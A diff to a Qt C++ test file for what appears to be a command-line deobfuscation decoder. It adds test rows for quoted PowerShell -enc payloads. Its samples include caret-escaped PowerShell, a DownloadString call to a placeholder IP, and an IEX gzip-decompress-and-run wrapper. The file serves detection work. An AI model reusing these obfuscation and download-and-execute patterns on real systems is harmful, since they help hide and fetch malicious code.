@@ -59,6 +59,8 @@ void TestCmdlineDecoder::transformsDecode_data()
     QTest::newRow("powershell en-dash -enc") << s("powershell \u2013enc ") + s(kEnc) << "base64-utf16le" << "Write-Output hello";
     QTest::newRow("caret-escaped -enc") << s("cmd /c p^owershell -^e^n^c ") + s(kEnc) << "base64-utf16le" << "Write-Output hello";
     QTest::newRow("quoted -enc payload") << s("powershell -enc \"") + s(kEnc) + s("\"") << "base64-utf16le" << "Write-Output hello";
+    QTest::newRow("quoted long -enc payload") << s("powershell -enc \"") + s(kNested) + s("\"") << "base64-utf16le" << "Write-Output nested";
+    QTest::newRow("long -enc payload split by quotes") << s("powershell -enc \"") + s(kNested).left(40) + s("\"") + s(kNested).mid(40) << "base64-utf16le" << "Write-Output nested";
     QTest::newRow("nested base64 double") << s("powershell -enc ") + s(kNested) << "base64-utf16le" << "Write-Output nested";
     QTest::newRow("base64 ascii token") << s("cmd /c echo ") + s(kAscii) << "base64-ascii" << "DownloadString('http://203.0.113.7/a')";
     QTest::newRow("gzip in base64") << s("IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream([IO.MemoryStream][Convert]::FromBase64String('") + s(kGzip) + s("'),[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()") << "gzip" << "Write-Output gzipped payload";
